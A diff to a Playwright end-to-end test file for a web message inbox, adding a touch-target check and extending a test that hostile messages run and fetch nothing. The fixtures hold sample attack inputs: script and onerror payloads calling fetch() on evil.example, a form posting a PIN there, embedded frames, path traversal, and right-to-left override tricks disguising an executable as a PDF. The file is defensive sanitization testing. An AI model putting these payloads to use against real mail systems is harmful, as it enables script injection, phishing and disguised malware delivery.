@@ -17,7 +17,7 @@ from playwright.sync_api import BrowserContext, Page, Playwright, expect, sync_p
 from mm_soap.demonstration import KOMMUN_B, OPERATOR_TWO, RECIPIENT, RECIPIENT_AT_TWO
 from mm_soap.message import OfficialMatter, new_message
 from mm_soap.xml import MESSAGE_V3, OFFICIAL_MATTER_V3
-from tests.e2e.browser import DESKTOP, PHONE, accessibility, chromium, too_wide
+from tests.e2e.browser import DESKTOP, PHONE, accessibility, chromium, small_targets, too_wide
 from tests.e2e.inbox import PDF, put, refuse, send, sign_in, sign_text
 from tests.e2e.suite import Demonstration, Server, mm_soap
 
@@ -27,7 +27,7 @@ PICTURES = os.environ.get("MM_SOAP_TEST_PICTURES")
 """A folder into which the pages are written as pictures, for the documentation and for looking at."""
 
 HOSTILE = (
-    """<h1>Hej</h1><p onclick="boom()">Text</p><script>fetch('https://evil.example/script')</script>
+    """<h1>Hej</h1><p onclick="boom()">Text &#x202e;4321</p><script>fetch('https://evil.example/script')</script>
 <img src="https://evil.example/pixel.png" onerror="fetch('https://evil.example/error')">
 <form action="https://evil.example/form"><input name="pin"><button>Skicka</button></form>
 <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
@@ -101,6 +101,7 @@ def pictured(page: Page, name: str) -> None:
 def good(page: Page) -> None:
     assert accessibility(page) == []
     assert not too_wide(page)
+    assert small_targets(page) == []
 
 
 def test_the_life_of_a_message(demo: Demonstration, served: Server, page: Page, look: str) -> None:
@@ -156,14 +157,21 @@ def test_the_life_of_a_message(demo: Demonstration, served: Server, page: Page, 
 def test_a_hostile_message_runs_nothing_and_fetches_nothing(
     demo: Demonstration, served: Server, page: Page, look: str
 ) -> None:
-    subject = f"<script>alert(1)</script> {look}"
+    subject = f"<script>alert(1)</script> {look}"  # and turned round, which is not shown
     files = [("../../etc/pass\u202efdp.exe", "application/pdf", b"MZ, no PDF"), ("a/b\\c.pdf", "application/pdf", PDF)]
-    put(demo, new_message(subject, html=HOSTILE, attachments=files))
+    put(demo, new_message(f"\u202e{subject}", html=HOSTILE, attachments=files))
     sign_in(page, served)
     page.locator(".letters a", has_text=look).first.click()
     expect(page.get_by_role("heading", level=1)).to_have_text(subject)
     note = page.locator(".note").first
-    for what in ("scripts", "forms", "pictures that would be fetched", "embedded pages", "links of an unknown kind"):
+    for what in (
+        "scripts",
+        "forms",
+        "pictures that would be fetched",
+        "embedded pages",
+        "links of an unknown kind",
+        "round",
+    ):
         expect(note).to_contain_text(what)
     frame = page.frame_locator("iframe.body")
     expect(frame.get_by_role("heading", level=1)).to_have_text("Hej")
